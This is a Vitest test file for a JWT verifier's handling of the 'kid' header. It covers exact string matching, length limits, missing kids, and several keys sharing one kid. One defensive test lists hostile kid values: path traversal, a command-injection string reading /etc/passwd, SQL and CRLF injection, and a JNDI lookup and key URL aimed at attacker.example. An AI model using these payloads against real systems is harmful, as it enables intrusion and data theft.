import { describe, expect, it } from "vitest"
import { oidcIssuer } from "../support/config.ts"
import { reasonOf } from "../support/doors.ts"
import { testKey, withKid } from "../support/keys.ts"
import { mint } from "../support/mint.ts"

const key = testKey("rsa")

describe("kid is a string that selects, and nothing more (RFC 7515 section 4.1.4)", () => {
  it.each([null, 0, 1, true, [], [key.kid], {}, { kid: key.kid }, ""])("SR-029: kid %j is refused", async (kid) => {
    expect(await reasonOf(mint({}, { header: { kid } }))).toBe("header_invalid")
    // Nor does it count as missing where that is allowed.
    expect(await reasonOf(mint({}, { header: { kid } }), [oidcIssuer({ allowMissingKid: true })])).toBe(
      "header_invalid",
    )
  })

  it("SR-029: the number 1 does not find the key called 1", async () => {
    const issuers = [oidcIssuer({ jwks: { keys: [withKid(key, "1").jwk] } })]
    expect(await reasonOf(mint({}, { header: { kid: 1 } }), issuers)).toBe("header_invalid")
    expect(await reasonOf(mint({}, { header: { kid: "1" } }), issuers)).toBe("ok")
  })

  it.each([
    "../../../../dev/null",
    "/dev/null",
    "file:///etc/passwd",
    "https://attacker.example/key.pem",
    "key.pem; cat /etc/passwd",
    "x' OR '1'='1",
    '"}{"',
    "\u0000",
    `${key.kid}\u0000`,
    `${key.kid} `,
    ` ${key.kid}`,
    `${key.kid}\n`,
    key.kid.toUpperCase(),
    key.kid.slice(0, -1),
    "\r\nSet-Cookie: a=b",
    "\u001b[31m",
    "\u0024{jndi:ldap://attacker.example/a}",
    "é",
    "😀",
    "\ud800",
  ])("SR-030: kid %j is as unknown as any other", async (kid) => {
    expect(await reasonOf(mint({}, { header: { kid } }))).toBe("key_unknown")
  })

  it.each(["vyVQH7UMjwYboVvyFf+zd4KHZfgc+RtmU/A2vHhgITI=", "a/b+c==", "é", "<\"&'>", "../x", "__proto__", "😀", " "])(
    "SR-030: a published kid %j works",
    async (kid) => {
      const issuers = [oidcIssuer({ jwks: { keys: [withKid(key, kid).jwk] } })]
      expect(await reasonOf(mint({}, { header: { kid } }), issuers)).toBe("ok")
      expect(await reasonOf(mint({}, { header: { kid: `${kid}x` } }), issuers)).toBe("key_unknown")
    },
  )

  it("SR-030: normal forms of Unicode are different kids", async () => {
    const issuers = [oidcIssuer({ jwks: { keys: [withKid(key, "\u00e9").jwk] } })]
    expect(await reasonOf(mint({}, { header: { kid: "e\u0301" } }), issuers)).toBe("key_unknown")
  })

  it("SR-030: a kid of 256 characters is looked up, a longer one is not", async () => {
    const kid = "k".repeat(256)
    const issuers = [oidcIssuer({ jwks: { keys: [withKid(key, kid).jwk] } })]
    expect(await reasonOf(mint({}, { header: { kid } }), issuers)).toBe("ok")
    for (const length of [257, 10_000]) {
      expect(await reasonOf(mint({}, { header: { kid: "k".repeat(length) } }), issuers)).toBe("header_invalid")
    }
  })

  it("SR-031: without kid the token is refused, unless that is configured and one key fits", async () => {
    const header = { kid: undefined }
    expect(await reasonOf(mint({}, { header }))).toBe("kid_missing")
    expect(await reasonOf(mint({}, { header }), [oidcIssuer({ allowMissingKid: true })])).toBe("ok")
    const two = { keys: [key.jwk, testKey("rsa", "2").jwk] }
    expect(await reasonOf(mint({}, { header }), [oidcIssuer({ allowMissingKid: true, jwks: two })])).toBe("key_unknown")
    const mixed = { keys: [key.jwk, testKey("p256").jwk] }
    expect(await reasonOf(mint({}, { header }), [oidcIssuer({ allowMissingKid: true, jwks: mixed })])).toBe("ok")
  })

  it("SR-031: a wrong kid is not a missing one", async () => {
    expect(await reasonOf(mint({}, { header: { kid: "other" } }), [oidcIssuer({ allowMissingKid: true })])).toBe(
      "key_unknown",
    )
  })

  it("SR-052: of several keys with one kid the one that fits verifies, in any order", async () => {
    const second = withKid(testKey("rsa", "2"), key.kid)
    const ec = withKid(testKey("p256"), key.kid)
    for (const keys of [
      [key.jwk, second.jwk, ec.jwk],
      [ec.jwk, second.jwk, key.jwk],
      [second.jwk, key.jwk, ec.jwk],
    ]) {
      const issuers = [oidcIssuer({ jwks: { keys }, algorithms: ["RS256", "ES256"] })]
      expect(await reasonOf(mint({}, { key }), issuers)).toBe("ok")
      expect(await reasonOf(mint({}, { key: second }), issuers)).toBe("ok")
      expect(await reasonOf(mint({}, { key: ec, alg: "ES256" }), issuers)).toBe("ok")
      expect(await reasonOf(mint({}, { key: testKey("rsa", "3"), header: { kid: key.kid } }), issuers)).toBe(
        "signature_invalid",
      )
    }
  })

  it("SR-052: more keys of one kid than the bound are not all tried", async () => {
    const keys = Array.from({ length: 40 }, (_, i) => withKid(testKey("p256", `many-${i}`), "same").jwk)
    const issuers = [oidcIssuer({ jwks: { keys }, algorithms: ["ES256"] })]
    const stranger = withKid(testKey("p256", "stranger"), "same")
    expect(["signature_invalid", "key_unknown"]).toContain(
      await reasonOf(mint({}, { key: stranger, alg: "ES256" }), issuers),
    )
  })
})
